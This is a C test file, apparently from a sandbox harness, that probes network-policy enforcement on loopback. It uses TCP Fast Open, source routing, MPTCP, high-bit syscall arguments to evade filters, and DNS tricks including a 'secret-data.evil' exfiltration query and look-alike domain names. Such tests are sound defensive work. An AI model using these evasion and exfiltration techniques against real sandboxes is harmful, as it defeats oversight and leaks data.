/* SPDX-License-Identifier: MIT */
/*
 * Attacks on the network. The only peer is a listener of the harness on the loopback interface.
 */
#include "attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/socket.h>

#ifndef MSG_FASTOPEN
#define MSG_FASTOPEN 0x20000000
#endif
#define MPTCP 262

static struct sockaddr_in peer(void)
{
	return (struct sockaddr_in){ .sin_family = AF_INET,
				     .sin_port = htons((uint16_t)fact_number("port")),
				     .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
}

static int tcp(void)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		cannot_judge("no TCP socket");
	return fd;
}

/* Connects with the first bytes instead of in connect(). */
static long connect_later(void)
{
	struct sockaddr_in address = peer();
	int fd = tcp(), on = 1;

	if (setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof(on)) < 0)
		cannot_judge("no TCP_FASTOPEN_CONNECT");
	if (connect(fd, (struct sockaddr *)&address, sizeof(address)) < 0)
		return -1;
	return write(fd, "evil", 4);
}

void fast_open(void)
{
	struct sockaddr_in address = peer();
	char text[] = "evil";
	struct iovec piece = { text, 4 };
	struct mmsghdr message = { .msg_hdr = { .msg_name = &address,
						.msg_namelen = sizeof(address),
						.msg_iov = &piece,
						.msg_iovlen = 1 } };

	step("sendto",
	     sendto(tcp(), text, 4, MSG_FASTOPEN, (struct sockaddr *)&address, sizeof(address)));
	step("sendmsg", sendmsg(tcp(), &message.msg_hdr, MSG_FASTOPEN));
	step("sendmmsg", sendmmsg(tcp(), &message, 1, MSG_FASTOPEN));
	step("later", connect_later());
}

/* Options of packets: whoever is first on a source route need not be where the connection leads. */
void source_route(void)
{
	static const int headers[] = { 6, 57 }; /* IPV6_2292PKTOPTIONS, IPV6_RTHDR */
	unsigned char idle[4] = { 1, 1, 1, 0 };
	int four = socket(AF_INET, SOCK_STREAM, 0), six = socket(AF_INET6, SOCK_STREAM, 0);

	if (four < 0)
		cannot_judge("no socket");
	step("ipv4", setsockopt(four, IPPROTO_IP, IP_OPTIONS, idle, sizeof(idle)));
	for (int i = 0; six >= 0 && i < 2; i++)
		step("ipv6", setsockopt(six, IPPROTO_IPV6, headers[i], NULL, 0));
}

void mptcp(void)
{
	struct sockaddr_in address = peer();
	int fd = socket(AF_INET, SOCK_STREAM, MPTCP);

	if (fd < 0 && (errno == EPROTONOSUPPORT || errno == ENOPROTOOPT))
		cannot_judge("this kernel has no MPTCP");
	step("socket", fd);
	if (fd >= 0)
		step("connect", connect(fd, (struct sockaddr *)&address, sizeof(address)));
	/* the kernel looks at 32 bits of each argument */
	fd = (int)syscall(SYS_socket, (long)AF_INET | (1L << 32), (long)SOCK_STREAM | (1L << 32),
			  (long)MPTCP | (1L << 32));
	step("socket-high", fd);
	step("socket6", socket(AF_INET6, SOCK_STREAM, MPTCP));
}

/* By way of somebody else, to whom packets go first. */
void routed(void)
{
	unsigned char route[8 + 32] = { 0, 4, 4, 1, 1 }; /* an SRv6 header */
	unsigned char four[] = { 131, 7, 4, 127, 0, 0, 5, 0 }; /* loose source routing */
	struct {
		struct in6_addr dst;
		uint32_t label;
		uint8_t action, share;
		uint16_t flags, expires, linger;
		uint32_t pad;
	} flow = { .dst = IN6ADDR_LOOPBACK_INIT, .share = 1, .flags = 1 };
	int six = socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (six < 0)
		cannot_judge("no IPv6");
	memcpy(route + 8, &in6addr_loopback, 16);
	memcpy(route + 24, &in6addr_loopback, 16);
	maybe("header", setsockopt(six, IPPROTO_IPV6, 57, route, sizeof(route)));
	maybe("flow", setsockopt(six, IPPROTO_IPV6, 32, &flow, sizeof(flow)));
	reached("old-header", setsockopt(six, IPPROTO_IPV6, 5, route, sizeof(route)));
	reached("old-options", setsockopt(six, IPPROTO_IPV6, 6, route, sizeof(route)));
	maybe("four", setsockopt(tcp(), IPPROTO_IP, 4, four, sizeof(four)));
	/* the kernel looks at 32 bits of each argument */
	maybe("high", syscall(SYS_setsockopt, six, IPPROTO_IPV6 | (1L << 32), 57 | (1L << 32),
			      route, sizeof(route)));
}

void families(void)
{
	static const struct {
		const char *name;
		int family, type, protocol;
	} sockets[] = {
		{ "netlink-diag", AF_NETLINK, SOCK_RAW, 4 },
		{ "netlink-uevent", AF_NETLINK, SOCK_RAW, 15 },
		{ "netlink-audit", AF_NETLINK, SOCK_RAW, 9 },
		{ "netlink-netfilter", AF_NETLINK, SOCK_RAW, 12 },
		{ "netlink-generic", AF_NETLINK, SOCK_RAW, 16 },
		{ "packet", AF_PACKET, SOCK_RAW, 0 },
		{ "packet-dgram", AF_PACKET, SOCK_DGRAM, 0 },
		{ "vsock", 40, SOCK_STREAM, 0 },
		{ "alg", 38, SOCK_SEQPACKET, 0 },
		{ "xdp", 44, SOCK_RAW, 0 },
		{ "key", 15, SOCK_RAW, 2 },
		{ "bluetooth", 31, SOCK_RAW, 1 },
		{ "raw", AF_INET, SOCK_RAW, IPPROTO_ICMP },
		{ "raw6", AF_INET6, SOCK_RAW, IPPROTO_ICMPV6 },
		{ "raw-tcp", AF_INET, SOCK_RAW, IPPROTO_TCP },
		{ "ping", AF_INET, SOCK_DGRAM, IPPROTO_ICMP },
		{ "sctp", AF_INET, SOCK_STREAM, 132 },
		{ "smc", 43, SOCK_STREAM, 0 },
		{ "udplite", AF_INET, SOCK_DGRAM, 136 },
		{ "tipc", 30, SOCK_STREAM, 0 },
		{ "can", 29, SOCK_RAW, 1 },
	};

	for (size_t i = 0; i < sizeof(sockets) / sizeof(sockets[0]); i++)
		maybe(sockets[i].name,
		      socket(sockets[i].family, sockets[i].type, sockets[i].protocol));
}

/* --- Hosts by name. The harness has a DNS server, for which all names are 127.0.0.1. --- */

static struct sockaddr_in local(long port)
{
	return (struct sockaddr_in){ .sin_family = AF_INET,
				     .sin_port = htons((uint16_t)port),
				     .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
}

/* A name as it is sent: its end is that of the string. */
#define WIRE(text) text, sizeof(text)

/* Succeeds with an address. A name that is said not to exist is one that is refused. */
static long look_up(long port, const char *name, size_t len)
{
	unsigned char query[128] = { 0x12, 0x34, 1, 0, 0, 1 }, reply[512];
	const struct timeval patience = { .tv_sec = 5 };
	struct sockaddr_in server = local(port);
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	ssize_t got;

	memcpy(query + 12, name, len);
	query[12 + len + 1] = query[12 + len + 3] = 1; /* an address, of the internet */
	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience)) < 0 ||
	    connect(fd, (struct sockaddr *)&server, sizeof(server)) < 0 ||
	    send(fd, query, 12 + len + 4, 0) < 0)
		return -1;
	got = recv(fd, reply, sizeof(reply), 0);
	if (got < 12)
		return -1;
	close(fd);
	errno = EACCES;
	return (reply[3] & 15) == 0 && reply[7] ? 0 : -1;
}

static long connect_by(int family, long port)
{
	struct sockaddr_in four = local(port);
	struct sockaddr_in6 six = { .sin6_family = AF_INET6, .sin6_port = htons((uint16_t)port) };
	int fd = socket(family, SOCK_STREAM | SOCK_CLOEXEC, 0);

	inet_pton(AF_INET6, "::ffff:127.0.0.1", &six.sin6_addr);
	return family == AF_INET ? connect(fd, (struct sockaddr *)&four, sizeof(four))
				 : connect(fd, (struct sockaddr *)&six, sizeof(six));
}

static void connect_both(void)
{
	step("four", connect_by(AF_INET, fact_number("port")));
	maybe("six", connect_by(AF_INET6, fact_number("port")));
}

void tell_by_dns(void)
{
	step("asked", look_up(fact_number("dns"), WIRE("\13secret-data\4evil")));
	step("below", look_up(fact_number("dns"), WIRE("\6secret\2ok\4test")));
	step("straight", look_up(fact_number("server"), WIRE("\6secret\2ok\4test")));
	step("stream", connect_by(AF_INET, fact_number("server")));
}

void look_alikes(void)
{
	static const struct {
		const char *step, *name;
		size_t len;
	} names[] = {
		{ "before", WIRE("\7evil-ok\4test") },
		{ "behind", WIRE("\2ok\4test\4evil") },
		{ "below", WIRE("\4evil\2ok\4test") },
		{ "nul", WIRE("\2ok\5test\0\4evil") },
		{ "dot", WIRE("\7ok.test") },
		{ "dash", WIRE("\7ok-test") },
		{ "foreign", WIRE("\12xn--ok-98a\4test") },
		{ "half", WIRE("\4test") },
		{ "high", WIRE("\3ok\377\4test") },
	};

	must("itself", look_up(fact_number("dns"), WIRE("\2OK\4TEST")));
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		step(names[i].step, look_up(fact_number("dns"), names[i].name, names[i].len));
}

void rebound(void)
{
	must("itself", look_up(fact_number("dns"), WIRE("\2ok\4test")));
	connect_both();
}

void never_resolved(void)
{
	connect_both();
}

void nothing_allowed(void)
{
	connect_both();
}
